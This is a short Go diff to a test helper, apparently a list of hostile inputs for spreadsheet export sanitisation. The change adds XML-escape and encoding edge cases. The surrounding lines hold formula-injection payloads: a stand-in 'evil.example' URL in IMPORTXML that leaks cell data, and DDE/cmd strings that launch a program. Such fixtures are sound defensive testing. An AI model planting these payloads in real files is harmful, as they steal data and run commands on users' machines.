@@ -19,7 +19,7 @@ func hostile() []string {
 		`=1+1`, `=HYPERLINK("http://evil.example","Klicka")`, `=cmd|' /C calc'!A0`, `+46701740605`, `-1+2`,
 		`@SUM(A1:A9)`, "\t=1+1", "\r=1+1", "\n=1+1", `＝1+1`, `＋1`, `－1`, `＠A1`, `"=1+1`, `'=1+1`, `=`, ` =1`,
 		`=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")`, `=DDE("cmd";"/C calc";"x")`, "00123", "1.23E+09", "1e5",
-		"TRUE", "#REF!", "2016-12-01", "_x0041_", "_x005F_", "<f>1+1</f>", "]]>", "&amp;", "a\x00b\x0bc", "\ufffe\uffff", "bad\xff\xfeutf8",
+		"TRUE", "#REF!", "2016-12-01", "_x0041_", "_x005F_", "<f>1+1</f>", "]]>", "&amp;", "a\x00b\x0bc", "_x0041_x0042_", "__x0041__", "_x005F_x0041_", "_x000D_", "_x00e5", "_x", "två\nrader ", " < > \" ' & ]]> <!-- <![CDATA[", "\ufffe\uffff", "bad\xff\xfeutf8",
 	}
 }
 
